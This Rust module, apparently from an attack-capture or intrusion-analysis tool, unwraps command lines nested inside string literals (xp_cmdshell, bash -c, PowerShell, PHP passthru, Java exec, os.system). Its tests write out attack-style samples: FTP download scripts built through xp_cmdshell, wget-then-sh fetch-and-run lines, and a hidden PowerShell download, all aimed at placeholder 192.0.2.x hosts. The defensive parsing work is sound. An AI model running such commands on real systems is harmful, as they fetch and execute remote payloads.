//! Extraction, pass 1b: commands inside another language's string literal. The quoted text
//! handed to a command runner is itself a command line: T-SQL `xp_cmdshell '…'` (`''` for a
//! quote), `sh -c '…'`, `bash -c "…"`, `cmd /c "…"`, `powershell -c "…"`, PHP `system('…')`,
//! `shell_exec`, `passthru`, `exec`, `popen`, Java `Runtime.getRuntime().exec("…")`, Python
//! `os.system("…")`, and any double-quoted string with backslash escapes (JSON values,
//! `bash -c "… \"…\" …"`). The C download plugins searched the raw text and had no such pass.
//!
//! The literal is replaced in the text by its value, between command separators (`;`) where a
//! runner carries it, so that the words of the command line inside are read as the
//! command's own (an FTP script echoed line by line through `xp_cmdshell` is one script). A
//! value is never longer than its literal, so positions only move backwards (as
//! `Sink::owned` requires). Literals inside literals are undone too, at most
//! [`MAX_DEPTH`] deep; each literal is read for at most [`MAX_LITERAL`] bytes, and the bytes
//! read looking for literal ends are capped at a small multiple of the text's size.

use super::*;

/// Literals within literals undone.
pub const MAX_DEPTH: usize = 8;
/// Longer literals are left as they are.
pub const MAX_LITERAL: usize = 64 << 10;

#[derive(Clone, Copy, PartialEq, Eq)]
enum Mode {
    /// T-SQL: `''` is a quote.
    Sql,
    /// Backslash escapes (C, JSON, PHP, Java, Python), ended by this quote.
    Escapes(u8),
    /// A POSIX shell's double quotes: `\"`, `\\`, `\$`, `` \` `` only.
    Shell,
    /// A Windows command line (cmd, PowerShell): `\"` only.
    Windows,
    /// No escapes, ended by this quote (`sh -c '…'`).
    Raw(u8),
    /// A double-quoted string of no known runner (a JSON value, an argument): quotes,
    /// backslashes, slashes and `\uXXXX` undone, but `\n`, `\r` and `\t` kept as written, so
    /// that the string stays on its line (`echo -e "GET /x HTTP/1.0\r\n" | nc h 80`).
    Json,
}

/// Function-like runners whose first argument is a command line.
const CALLS: &[&[u8]] = &[
    b"system",
    b"shell_exec",
    b"passthru",
    b"exec",
    b"popen",
    b"proc_open",
    b"execsync",
    b"getoutput",
    b"check_output",
];

/// Programs whose `-c`/`/c`/`/k`/`-command` option takes a command line.
const SHELLS: &[&[u8]] = &[b"sh", b"bash", b"ash", b"dash", b"zsh", b"ksh", b"cmd", b"powershell", b"pwsh", b"busybox"];

/// The text with the command-line literals replaced by their values.
pub(super) fn unwrap_literals(t: Vec<u8>) -> Vec<u8> {
    if !t.iter().any(|&c| c == b'\'' || c == b'"') {
        return t;
    }
    let mut out = Vec::with_capacity(t.len());
    let mut budget = 4 * t.len() + MAX_LITERAL;
    rewrite(&t, &mut out, 0, &mut budget);
    out
}

fn word_start(t: &[u8], i: usize) -> bool {
    i == 0 || !(t[i - 1].is_ascii_alphanumeric() || t[i - 1] == b'_')
}

fn skip_blanks(t: &[u8], mut i: usize) -> usize {
    while t.get(i).is_some_and(|&c| c == b' ' || c == b'\t') {
        i += 1;
    }
    i
}

/// A runner at `i`: the opening quote's index and how its literal is read.
fn carrier_at(t: &[u8], i: usize) -> Option<(usize, Mode)> {
    let c = t[i].to_ascii_lowercase();
    if !matches!(c, b'x' | b's' | b'p' | b'e' | b'g' | b'c' | b'-' | b'/') || !word_start(t, i) {
        return None;
    }
    if starts_ci(t, i, b"xp_cmdshell") {
        let mut q = skip_blanks(t, i + 11);
        if matches!(t.get(q), Some(b'N' | b'n')) {
            q += 1;
        }
        return (t.get(q) == Some(&b'\'')).then_some((q, Mode::Sql));
    }
    if matches!(c, b'-' | b'/') {
        let name = [&b"c"[..], b"k", b"command"]
            .into_iter()
            .find(|n| starts_ci(t, i + 1, n) && matches!(t.get(i + 1 + n.len()), Some(b' ' | b'\t')))?;
        let q = skip_blanks(t, i + 1 + name.len());
        let quote = *t.get(q).filter(|&&c| c == b'\'' || c == b'"')?;
        let windows = after_shell(t, i)?;
        return Some((
            q,
            match (quote, windows) {
                (b'\'', _) => Mode::Raw(quote),
                (_, false) => Mode::Shell,
                (_, true) => Mode::Windows,
            },
        ));
    }
    let name = CALLS.iter().find(|n| starts_ci(t, i, n))?;
    let mut q = skip_blanks(t, i + name.len());
    if t.get(q) != Some(&b'(') {
        return None;
    }
    q = skip_blanks(t, q + 1);
    let quote = *t.get(q).filter(|&&c| c == b'\'' || c == b'"')?;
    Some((q, Mode::Escapes(quote)))
}

/// Is the option at `i` one of a shell's, cmd's or PowerShell's (the program among the few
/// words before it, with only options or option values between)? `Some(true)` for the
/// Windows ones.
fn after_shell(t: &[u8], i: usize) -> Option<bool> {
    let line_start =
        t[..i].iter().rposition(|&c| matches!(c, b'\n' | b';' | b'&' | b'|' | b'(' | b'`')).map_or(0, |k| k + 1);
    let from = line_start.max(i.saturating_sub(256));
    let words: Vec<&[u8]> =
        t[from..i].split(|&c| matches!(c, b' ' | b'\t' | b'<' | b'>')).filter(|w| !w.is_empty()).collect();
    for w in words.iter().rev().take(8) {
        let w = w.strip_prefix(b"'").or_else(|| w.strip_prefix(b"\"")).unwrap_or(w);
        let base = w.rsplit(|&c| c == b'/' || c == b'\\').next().unwrap_or(w);
        let base = lower(base);
        let base = base.strip_suffix(b".exe").unwrap_or(&base);
        if SHELLS.contains(&base) {
            return Some(matches!(base, b"cmd" | b"powershell" | b"pwsh"));
        }
        if !(w.starts_with(b"-") || w.starts_with(b"/") || w.iter().all(u8::is_ascii_alphabetic)) {
            return None;
        }
    }
    None
}

/// Reads the literal opening at `q`: its value, the index after its closing quote, and
/// whether an escape was undone.
fn literal(t: &[u8], q: usize, mode: Mode, budget: &mut usize) -> Option<(Vec<u8>, usize, bool)> {
    let quote = match mode {
        Mode::Sql => b'\'',
        Mode::Shell | Mode::Windows | Mode::Json => b'"',
        Mode::Escapes(c) | Mode::Raw(c) => c,
    };
    let mut v = Vec::new();
    let mut escaped = false;
    let mut i = q + 1;
    let end = t.len().min(q + 1 + MAX_LITERAL);
    let start = i;
    let result = loop {
        if i >= end {
            break None;
        }
        let c = t[i];
        if c == quote {
            if mode == Mode::Sql && t.get(i + 1) == Some(&quote) {
                v.push(quote);
                escaped = true;
                i += 2;
                continue;
            }
            break Some(i + 1);
        }
        let next = t.get(i + 1).copied().unwrap_or(0);
        let shell_escape = mode == Mode::Shell && matches!(next, b'"' | b'\\' | b'$' | b'`');
        if c == b'\\' && (mode == Mode::Windows && next == b'"' || shell_escape) {
            v.push(next);
            escaped = true;
            i += 2;
            continue;
        }
        if c == b'\\' && matches!(mode, Mode::Escapes(_) | Mode::Json) {
            if let Some((b, n)) =
                escape(&t[i..]).filter(|(b, _)| mode != Mode::Json || !matches!(b, b'\n' | b'\r' | b'\t'))
            {
                v.push(b);
                escaped = true;
                i += n;
                continue;
            }
        }
        v.push(c);
        i += 1;
    };
    *budget = budget.saturating_sub(i - start + 1);
    result.map(|e| (v, e, escaped))
}

/// A backslash escape at the start of `s`: the byte it stands for and its length. Unknown
/// escapes (`\W` in a Windows path, `\x41` for `echo -e`) are kept as written.
fn escape(s: &[u8]) -> Option<(u8, usize)> {
    Some(match *s.get(1)? {
        c @ (b'"' | b'\'' | b'\\' | b'/' | b'$' | b'`') => (c, 2),
        b'n' => (b'\n', 2),
        b'r' => (b'\r', 2),
        b't' => (b'\t', 2),
        b'u' => {
            let h = s.get(2..6)?;
            let v = u32::from_str_radix(std::str::from_utf8(h).ok()?, 16).ok()?;
            (if (1..0x80).contains(&v) { v as u8 } else { b'?' }, 6)
        }
        _ => return None,
    })
}

fn rewrite(t: &[u8], out: &mut Vec<u8>, depth: usize, budget: &mut usize) {
    let mut i = 0;
    while i < t.len() {
        if depth < MAX_DEPTH && *budget > 0 {
            if let Some((q, mode)) = carrier_at(t, i) {
                if let Some((value, end, _)) = literal(t, q, mode, budget) {
                    out.extend_from_slice(&t[i..q]);
                    out.push(b';');
                    rewrite(&value, out, depth + 1, budget);
                    out.push(b';');
                    i = end;
                    continue;
                }
            }
            if t[i] == b'"' && (i == 0 || t[i - 1] != b'\\') {
                match literal(t, i, Mode::Json, budget) {
                    Some((value, end, true)) => {
                        out.push(b'"');
                        rewrite(&value, out, depth + 1, budget);
                        out.push(b'"');
                        i = end;
                        continue;
                    }
                    Some((_, end, false)) => {
                        // A plain string: copied, but read on for runners inside it.
                        out.push(b'"');
                        rewrite(&t[i + 1..end - 1], out, depth + 1, budget);
                        out.push(b'"');
                        i = end;
                        continue;
                    }
                    None => {}
                }
            }
        }
        out.push(t[i]);
        i += 1;
    }
}

/// The text of a UTF-16LE T-SQL batch (a TDS packet) in `w`, one byte per character: from
/// the start of the UTF-16LE text around the first `xp_cmdshell` (with where that is).
pub(super) fn utf16_sql(w: &[u8]) -> Option<(usize, Vec<u8>)> {
    let needle: Vec<u8> = b"xp_cmdshell".iter().flat_map(|&c| [c, 0]).collect();
    let at = w.windows(needle.len()).position(|s| s.eq_ignore_ascii_case(&needle))?;
    let text_char = |s: usize| w[s - 1] == 0 && (w[s - 2].is_ascii_graphic() || b" \r\n\t".contains(&w[s - 2]));
    let mut s = at;
    while s >= 2 && text_char(s) {
        s -= 2;
    }
    Some((s, winscript::utf16le_text(&w[s..])))
}

#[cfg(test)]
mod tests {
    use super::super::{extract, summary};
    use super::*;

    fn check(attack: &[u8], want: &[&str]) {
        let got: Vec<String> = extract(attack).iter().map(summary).collect();
        assert_eq!(got, want, "attack: {:?}", String::from_utf8_lossy(attack));
    }

    fn unwrapped(t: &str) -> String {
        String::from_utf8(unwrap_literals(t.as_bytes().to_vec())).unwrap()
    }

    #[test]
    fn values_replace_the_literals_of_runners() {
        assert_eq!(unwrapped("xp_cmdshell 'echo ''a'' > f'"), "xp_cmdshell ;echo 'a' > f;");
        assert_eq!(unwrapped("xp_cmdshell N'x'"), "xp_cmdshell N;x;");
        assert_eq!(unwrapped("bash -c \"a \\\"b\\\" \\\\c\""), "bash -c ;a \"b\" \\c;");
        assert_eq!(unwrapped("sh -c 'a \\\"b'"), "sh -c ;a \\\"b;");
        assert_eq!(unwrapped("system ( 'id' )"), "system ( ;id; )");
        assert_eq!(unwrapped("{\"c\":\"a\\u0020b \\\"q\\\"\"}"), "{\"c\":\"a b \"q\"\"}");
        // Not a runner's option, not escaped, unknown escapes: unchanged.
        for t in ["curl -c 'jar' x", "tftp 1.2.3.4 -c get a", "say \"plain\"", "\"C:\\Windows\\x\"", "'open"] {
            assert_eq!(unwrapped(t), t);
        }
        // Never longer, whatever the input.
        let mut rng = crate::wire::testutil::XorShift(7);
        for _ in 0..2000 {
            let v: Vec<u8> = (0..rng.below(60)).map(|_| b"'\"\\ ;-cxp_cmdshell(system)u0N"[rng.below(27)]).collect();
            assert!(unwrap_literals(v.clone()).len() <= v.len(), "{:?}", String::from_utf8_lossy(&v));
        }
    }

    #[test]
    fn commands_in_literals() {
        // One xp_cmdshell per line still builds one FTP script.
        check(
            b"EXEC master.dbo.xp_cmdshell 'echo open 192.0.2.50 >c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'echo user a b>>c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'echo get q.exe>>c:\\f.txt'\r\nEXEC master.dbo.xp_cmdshell 'ftp -n -s:c:\\f.txt'",
            &["ftp 192.0.2.50 - a b q.exe q.exe"],
        );
        // The quote glued to the first word of the script.
        check(
            b"EXEC master..xp_cmdshell 'echo open 192.0.2.51 > f&echo user a b>>f&echo get x.exe>>f&ftp -s:f'",
            &["ftp 192.0.2.51 - a b x.exe x.exe"],
        );
        check(b"bash -c \"curl -o \\\"/tmp/bb\\\" http://192.0.2.52/b\"", &["http 192.0.2.52 - - - /b bb"]);
        check(
            b"{\"cmd\":\"wget -O \\\"/tmp/x\\\" http:\\/\\/192.0.2.53\\/y; sh /tmp/x\"}",
            &["http 192.0.2.53 - - - /y x"],
        );
        check(
            b"powershell -nop -w hidden -command \"iwr http://192.0.2.54/pw.exe -OutFile \\\"C:\\Users\\Public\\pw2.exe\\\"\"",
            &["http 192.0.2.54 - - - /pw.exe pw2.exe"],
        );
        check(b"<?php passthru(\"wget -O \\\"/tmp/pp\\\" http://192.0.2.55/p\"); ?>", &["http 192.0.2.55 - - - /p pp"]);
        check(
            b"Runtime.getRuntime().exec(\"curl -o \\\"/tmp/jj\\\" http://192.0.2.56/j\")",
            &["http 192.0.2.56 - - - /j jj"],
        );
        check(b"import os;os.system('wget -O /tmp/oo http://192.0.2.57/o')", &["http 192.0.2.57 - - - /o oo"]);
        check(
            b"<string>cmd /c \"echo open 192.0.2.58&gt;s&amp;echo get w.exe&gt;&gt;s&amp;ftp -A -s:s\"</string>",
            &["ftp 192.0.2.58 - - - w.exe w.exe"],
        );
    }

    /// A TDS SQL batch: header, ALL_HEADERS, the batch in UTF-16LE.
    pub(crate) fn tds_batch(sql: &str) -> Vec<u8> {
        let text: Vec<u8> = sql.encode_utf16().flat_map(|u| u.to_le_bytes()).collect();
        let mut p = vec![0x01, 0x01, 0, 0, 0, 0, 0x01, 0x00];
        p.extend_from_slice(&[22, 0, 0, 0, 18, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0]);
        p.extend_from_slice(&text);
        let n = (p.len() as u16).to_be_bytes();
        p[2..4].copy_from_slice(&n);
        p
    }

    #[test]
    fn utf16_t_sql_batches() {
        let p = tds_batch(
            "EXEC master..xp_cmdshell 'echo open 192.0.2.60 21>f&echo user a b>>f&echo get t.exe>>f&ftp -s:f'",
        );
        check(&p, &["ftp 192.0.2.60 21 a b t.exe t.exe"]);
        check(&tds_batch("SELECT 1"), &[]);
    }
}
